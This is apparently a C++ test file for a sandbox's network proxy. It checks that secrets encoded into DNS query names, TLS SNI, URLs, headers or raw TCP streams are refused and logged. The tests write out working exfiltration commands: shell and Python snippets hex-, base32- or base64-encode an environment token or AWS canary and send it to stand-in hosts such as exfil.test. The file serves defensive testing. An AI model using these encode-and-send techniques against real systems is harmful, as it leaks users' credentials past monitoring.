// Secrets leaving by other ways than a request body, under `cordon run`: a placeholder or canary
// hex- or base32-encoded into a DNS query name is REFUSED with a net.exfil event (channel "dns")
// and never resolved; an SNI carrying one is reset before anything is dialled; the URL and header
// values are searched in every encoding the body scanner knows, toward hosts the secret is not
// bound to; the first flight of a raw TCP stream is scanned. Near misses (one byte short, random
// hex of the same shape) pass.
#include <gmock/gmock.h>
#include <sys/stat.h>

#include <filesystem>
#include <nlohmann/json.hpp>

#include "tests/launcher/sandbox_fixture.h"
#include "tests/netproxy/fixture.h"

namespace cordon::testing {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

constexpr const char* kToken = "ghp_R3alT0kenValue0123456789abcdefGHIJKL";

// Shell helpers for the sandbox: hex of stdin, and a name of two labels under `zone` from a
// string too long for one label (a label holds at most 63 bytes).
constexpr const char* kShellHelpers =
    "hex() { od -An -v -tx1 | tr -d ' \\n'; }\n"
    "name() { printf '%s.%s.%s' \"$(printf %s \"$1\" | cut -c1-40)\" "
    "\"$(printf %s \"$1\" | cut -c41-)\" \"$2\"; }\n";

// One DNS query per name to the sandbox's resolver (the proxy), printing each answer's RCODE.
constexpr const char* kDnsQuery = R"(import socket, struct, sys
ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
for i, name in enumerate(sys.argv[1:]):
    s = socket.socket(socket.AF_INET6 if ':' in ns else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(10)
    q = struct.pack('>HHHHHH', 0x4200 + i, 0x0100, 1, 0, 0, 0)
    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    s.sendto(q + struct.pack('>HH', 1, 1), (ns, 53))
    print(s.recv(4096)[3] & 15)
)";

// A raw TCP stream: sends a binary first flight with argv[3] in it, prints what came back.
constexpr const char* kRawStream = R"(import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)
s.sendall(b'\x00\x01cordon-test ' + sys.argv[3].encode() + b'\n')
try:
    print('echo %d' % len(s.recv(4096)))
except OSError:
    print('reset')
)";

// api.test and other.test reach the loopback HTTPS server (other.test is inspected, so its heads
// are seen); tls.test and echo.test reach the echo server, which counts the connections it gets.
class RawExfilRun : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(make_test_files(files_));
    reqlog_ = files_ / "reqlog";
    up_ = std::make_unique<Upstreams>(
        std::vector<std::string>{"root=" + files_ / "www", "cert=" + files_ / "srv.pem",
                                 "key=" + files_ / "srv.key", "reqlog=" + reqlog_});
    ASSERT_TRUE(up_->ok());
    ::chmod(files_.path().c_str(), 0755);
    f_.env().push_back("SSL_CERT_FILE=" + files_ / "ca.pem");
    f_.env().push_back("SSL_CERT_DIR=/nonexistent");
    f_.env().push_back(std::string("MY_TOKEN=") + kToken);
  }
  std::string https() const { return std::to_string(up_->port("https")); }
  std::string echo() const { return std::to_string(up_->port("echo")); }
  std::string url(const std::string& host, const std::string& path) const {
    return "https://" + host + ":" + https() + path;
  }
  std::string policy(const std::string& extra = "") {
    std::string p = files_ / "policy.json";
    write_text(p, R"({"version": 1, "network": {"allow": ["api.test:)" + https() +
                      R"(", "other.test:)" + https() + R"(", "tls.test:)" + echo() +
                      R"(", "echo.test:)" + echo() + R"(", "*.exfil.test"],
                      "inspect": ["other.test"],
                      "resolve": {"api.test": "127.0.0.1", "other.test": "127.0.0.1",
                                  "tls.test": "127.0.0.1", "echo.test": "127.0.0.1"},
                      "credentials": [{"env": "MY_TOKEN", "hosts": ["api.test"]}])" +
                      extra + "}}");
    return p;
  }
  RunResult sh(const std::string& policy_file, const std::string& script) {
    RunSpec spec;
    spec.deadline = std::chrono::seconds(90);
    // The scripts are written inside: the sandbox has a /tmp of its own.
    const std::string scripts = std::string("T=$(mktemp -d)\ncat > $T/dnsq.py <<'EOF'\n") +
                                kDnsQuery + "EOF\ncat > $T/raw.py <<'EOF'\n" + kRawStream + "EOF\n";
    return f_.sh(kShellHelpers + scripts + script, {"--policy", policy_file}, spec);
  }
  std::string reqlog() {
    std::error_code ec;
    return std::filesystem::exists(reqlog_, ec) ? read_text(reqlog_) : "";
  }
  int echo_conns() const { return up_->stats().value("echo_conns", -1); }

  TempDir files_;
  std::string reqlog_;
  std::unique_ptr<Upstreams> up_;
  SandboxFixture f_;
};

TEST_F(RawExfilRun, AQueryNameCarryingThePlaceholderIsRefusedAndNeverResolved) {
  // *.exfil.test is allowed: without the check these names would go to the host's resolver.
  auto r = sh(policy(),
              "H=$(printf %s \"$MY_TOKEN\" | hex); U=$(printf %s \"$H\" | tr a-f A-F)\n"
              "B=$(printf %s \"$MY_TOKEN\" | base32 -w0 | tr -d = | tr A-Z a-z)\n"
              "N=$(printf %s \"$MY_TOKEN\" | head -c 39 | hex)\n"
              "R=$(head -c 20 /dev/urandom | hex)\n"
              "python3 $T/dnsq.py $(name $H exfil.test) $(name $U exfil.test) "
              "$(printf %s $B | cut -c1-32).$(printf %s $B | cut -c33-).exfil.test "
              "$(name $N nope.test) $R.nope.test\n"
              "getent hosts $(name $H exfil.test); echo getent $?\n"
              "python3 -c 'import socket, sys\n"
              "try:\n  socket.getaddrinfo(sys.argv[1], 443); print(\"resolved\")\n"
              "except socket.gaierror: print(\"not resolved\")' $(name $H exfil.test)\n");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  // REFUSED (5) for the three carriers; the near misses get the policy's NXDOMAIN (3).
  EXPECT_EQ(r.out, "5\n5\n5\n3\n3\ngetent 2\nnot resolved\n") << r.err;
  auto exfil = f_.last_events("net.exfil");
  ASSERT_GE(exfil.size(), 5u);  // getent and getaddrinfo ask for A and AAAA
  const char* encodings[] = {"hex", "hex", "base32"};
  for (size_t i = 0; i < exfil.size(); ++i) {
    EXPECT_EQ(exfil[i].value("channel", ""), "dns") << exfil[i].dump();
    EXPECT_EQ(exfil[i].value("credential", ""), "MY_TOKEN");
    EXPECT_EQ(exfil[i].value("encoding", ""), i < 3 ? encodings[i] : "hex") << exfil[i].dump();
    EXPECT_THAT(exfil[i].value("name", ""), HasSubstr(".exfil.test"));
    EXPECT_THAT(exfil[i].dump(), Not(HasSubstr(kToken)));
  }
  // No answer, and no host resolver consulted: the refusal comes before resolution.
  size_t refused = 0, near_misses = 0;
  for (const auto& d : f_.last_events("net.dns")) {
    if (d.value("source", "") == "shim") {
      continue;  // the program's own view of its lookup, joined from the shim
    }
    const std::string name = d.value("name", "");
    if (name.ends_with(".exfil.test")) {
      ++refused;
      EXPECT_EQ(d.value("rcode", ""), "REFUSED") << d.dump();
      EXPECT_EQ(d.value("rule", ""), "network.credentials");
      EXPECT_EQ(d.value("answers", nlohmann::json::array()), nlohmann::json::array());
      EXPECT_FALSE(d.contains("addresses")) << d.dump();
      EXPECT_THAT(d.value("reason", ""), HasSubstr("its dns ("));
    } else if (name.ends_with(".nope.test")) {
      ++near_misses;
      EXPECT_EQ(d.value("rcode", ""), "NXDOMAIN") << d.dump();
    }
  }
  EXPECT_EQ(refused, exfil.size());
  EXPECT_EQ(near_misses, 2u);
}

TEST_F(RawExfilRun, AnSniCarryingThePlaceholderIsResetBeforeAnythingIsDialled) {
  // Transparent (no proxy): curl resolves tls.test, then sends the carrier as SNI; through the
  // proxy variables, the same name in CONNECT is refused before it is resolved. The echo server
  // behind tls.test counts connections: only the control (a clean SNI) may reach it.
  auto r = sh(policy(),
              "H=$(printf %s \"$MY_TOKEN\" | hex); S=$(name $H exfil.test)\n"
              "curl -sS -m 20 --noproxy '*' --connect-to $S:" +
                  echo() + ":tls.test:" + echo() + " https://$S:" + echo() +
                  "/ 2>/dev/null; echo sni $?\n"
                  "curl -sS -m 20 -w '%{http_connect}\\n' https://$S:" +
                  echo() +
                  "/ 2>/dev/null; echo connect $?\n"
                  "curl -sS -m 20 --noproxy '*' https://tls.test:" +
                  echo() + "/ 2>/dev/null; echo control $?\n");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  EXPECT_THAT(r.out, HasSubstr("sni 35\n")) << r.err;  // reset in the TLS handshake
  EXPECT_THAT(r.out, HasSubstr("403\nconnect 56\n")) << r.err;
  EXPECT_THAT(r.out, Not(HasSubstr("control 0\n")));  // echo is no TLS server: it fails, later
  EXPECT_EQ(echo_conns(), 1);
  auto exfil = f_.last_events("net.exfil");
  ASSERT_EQ(exfil.size(), 2u);
  EXPECT_EQ(exfil[0].value("channel", ""), "sni");
  EXPECT_EQ(exfil[0].value("encoding", ""), "hex");
  EXPECT_EQ(exfil[0].value("mode", ""), "transparent");
  EXPECT_EQ(exfil[0].value("method", ""), "TLS");
  EXPECT_EQ(exfil[1].value("channel", ""), "connect");
  EXPECT_EQ(exfil[1].value("encoding", ""), "hex");
  for (const auto& e : exfil) {
    EXPECT_EQ(e.value("credential", ""), "MY_TOKEN");
    EXPECT_THAT(e.value("name", ""), HasSubstr(".exfil.test"));
  }
  // The names were never decided on or dialled: no net.connect names them.
  for (const auto& c : f_.last_events("net.connect")) {
    EXPECT_THAT(c.value("name", ""), Not(HasSubstr("exfil.test"))) << c.dump();
  }
}

TEST_F(RawExfilRun, EncodedSecretsInTheUrlAndHeadersAreRefusedTowardOtherHosts) {
  auto r = sh(policy(),
              "B=$(printf %s \"$MY_TOKEN\" | base64 -w0)\n"
              "AH=$(printf %s \"$AWS_ACCESS_KEY_ID\" | hex)\n"
              "N=$(printf %s \"$MY_TOKEN\" | head -c 39 | hex)\n"
              "R=$(head -c 20 /dev/urandom | hex)\n"
              "curl -sS -w ' %{http_code}\\n' \"" +
                  url("other.test", "/hello.txt") +
                  "?q=$B\"\n"
                  "curl -sS -w ' %{http_code}\\n' -H \"X-Trace: $AH\" " +
                  url("other.test", "/hello.txt") +
                  "\n"
                  "curl -sS -w ' %{http_code}\\n' -H \"X-Request-Id: $R\" \"" +
                  url("other.test", "/hello.txt") +
                  "?n=$N\"\n"
                  "curl -sS -w ' %{http_code}\\n' \"" +
                  url("api.test", "/hello.txt") +
                  "?q=$B&t=$MY_TOKEN\"\n"
                  "echo \"$B\"\n");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  const std::string b64 = r.out.substr(r.out.rfind('\n', r.out.size() - 2) + 1);
  EXPECT_EQ(r.out,
            "cordon: GET to other.test refused: its url (base64) carries the placeholder of "
            "credential MY_TOKEN, which goes only to api.test (network.credentials)\n 403\n"
            "cordon: GET to other.test refused: its header x-trace (hex) carries the aws canary, "
            "a decoy secret that goes nowhere (canaries)\n 403\n"
            "hello through cordon\n 200\n"
            "hello through cordon\n 200\n" +
                b64)
      << r.err;
  auto exfil = f_.last_events("net.exfil");
  ASSERT_EQ(exfil.size(), 2u);
  EXPECT_EQ(exfil[0].value("channel", ""), "url");
  EXPECT_EQ(exfil[0].value("encoding", ""), "base64");
  EXPECT_EQ(exfil[0].value("credential", ""), "MY_TOKEN");
  EXPECT_EQ(exfil[1].value("channel", ""), "header x-trace");
  EXPECT_EQ(exfil[1].value("encoding", ""), "hex");
  EXPECT_EQ(exfil[1].value("canary", ""), "aws");
  // Toward the bound host the placeholder as sent becomes the value; its encoded form is the
  // program's own business there and passes as it is.
  const std::string seen = reqlog();
  EXPECT_THAT(seen, HasSubstr("GET /hello.txt?q=" + b64.substr(0, b64.size() - 1) + "&t=" + kToken +
                              " HTTP/1.1\n"));
  EXPECT_THAT(seen, HasSubstr("X-Request-Id: "));
  EXPECT_THAT(seen, Not(HasSubstr("X-Trace")));
}

TEST_F(RawExfilRun, ARawStreamsFirstFlightIsScanned) {
  auto r = sh(policy(),
              "H=$(printf %s \"$MY_TOKEN\" | hex)\n"
              "R=$(head -c 40 /dev/urandom | hex)\n"
              "python3 $T/raw.py echo.test " +
                  echo() +
                  " $H\n"
                  "python3 $T/raw.py echo.test " +
                  echo() + " $R\n");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  EXPECT_EQ(r.out, "reset\necho 95\n") << r.err;
  EXPECT_EQ(echo_conns(), 1);  // the clean stream only
  auto exfil = f_.last_events("net.exfil");
  ASSERT_EQ(exfil.size(), 1u);
  EXPECT_EQ(exfil[0].value("channel", ""), "stream");
  EXPECT_EQ(exfil[0].value("encoding", ""), "hex");
  EXPECT_EQ(exfil[0].value("name", ""), "echo.test");
  EXPECT_EQ(exfil[0].value("method", ""), "TCP");
}

// Plain HTTP inside a CONNECT tunnel is relayed as bytes: its first head is searched as a
// stream's first flight is, so the placeholder's hex in the URL is refused there too.
TEST_F(RawExfilRun, PlainHttpInsideAConnectTunnelIsScanned) {
  auto r = sh(policy(),
              "H=$(printf %s \"$MY_TOKEN\" | hex)\n"
              "curl -sS -m 20 -p http://echo.test:" +
                  echo() + "/q?d=$H 2>/dev/null; echo \" curl $?\"\n");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  EXPECT_THAT(r.out, Not(HasSubstr("GET /q"))) << "the echo server's answer came back";
  auto exfil = f_.last_events("net.exfil");
  ASSERT_EQ(exfil.size(), 1u) << r.out;
  EXPECT_EQ(exfil[0].value("mode", ""), "connect");
  EXPECT_EQ(exfil[0].value("encoding", ""), "hex");
}

// A request head sent slowly (a pause longer than the peek after "GET /") is still read whole
// and judged as HTTP: the placeholder's hex in its URL is refused, not relayed as a stream.
TEST_F(RawExfilRun, ASlowRequestHeadIsStillScanned) {
  auto r = sh(policy(),
              "H=$(printf %s \"$MY_TOKEN\" | hex)\n"
              "python3 - echo.test " +
                  echo() +
                  " $H <<'EOF'\n"
                  "import socket, sys, time\n"
                  "s = socket.create_connection((sys.argv[1], int(sys.argv[2])), "
                  "timeout=10)\n"
                  "s.sendall(b'GET /')\n"
                  "time.sleep(0.7)\n"
                  "s.sendall(('q?d=%s HTTP/1.1\\r\\nHost: echo.test\\r\\n\\r\\n' % "
                  "sys.argv[3]).encode())\n"
                  "try:\n"
                  "    print(s.recv(4096).split(b'\\r\\n')[0].decode())\n"
                  "except OSError:\n"
                  "    print('reset')\n"
                  "EOF\n");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  EXPECT_THAT(r.out, HasSubstr("403")) << r.err;
  EXPECT_THAT(r.out, Not(HasSubstr("GET /q"))) << "the echo server got the head";
  auto exfil = f_.last_events("net.exfil");
  ASSERT_EQ(exfil.size(), 1u) << r.out;
  EXPECT_EQ(exfil[0].value("channel", ""), "url");
  EXPECT_EQ(exfil[0].value("encoding", ""), "hex");
}

TEST_F(RawExfilRun, OnExfilKillEndsTheSessionOnADnsCarrier) {
  RunSpec spec;
  spec.deadline = std::chrono::seconds(90);
  const auto t0 = std::chrono::steady_clock::now();
  auto r = f_.run({"--policy", policy(R"(, "on_exfil": "kill")"), "--mode", writable_mode()},
                  {"/bin/sh", "-c",
                   std::string(kShellHelpers) +
                       "getent hosts $(name $(printf %s \"$AWS_ACCESS_KEY_ID\" | hex)0000 "
                       "exfil.test); sleep 30; echo survived"},
                  spec);
  EXPECT_EQ(r.exit_code(), 123) << r.out << r.err;
  EXPECT_LT(std::chrono::steady_clock::now() - t0, std::chrono::seconds(25));
  EXPECT_THAT(r.out, Not(HasSubstr("survived")));
  EXPECT_THAT(r.err, HasSubstr("ALERT: canary touched: aws"));
  auto end = f_.last_events("session.end");
  ASSERT_EQ(end.size(), 1u);
  EXPECT_EQ(end[0].value("ended_by", ""), "network.on_exfil");
}

}  // namespace
}  // namespace cordon::testing
